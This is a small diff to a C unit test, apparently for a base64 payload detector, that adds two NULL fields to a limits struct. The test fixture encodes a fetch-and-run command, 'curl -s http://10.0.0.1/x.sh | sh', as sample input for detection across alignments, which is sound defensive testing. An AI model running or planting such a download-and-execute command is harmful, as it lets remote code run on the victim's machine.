@@ -394,7 +394,7 @@ static void base64_alignments(void **state)
 {
 	(void)state;
 	const char *payload = "Y3VybCAtcyBodHRwOi8vMTAuMC4wLjEveC5zaCB8IHNo"; /* curl -s http://10.0.0.1/x.sh | sh */
-	struct hh_b64_limits lim = { 24, 1 << 20 };
+	struct hh_b64_limits lim = { 24, 1 << 20, NULL, NULL };
 	for (int a = 0; a < 4; a++) {
 		char text[256];
 		/* a prefix of base64-alphabet characters glued to the run shifts its alignment */
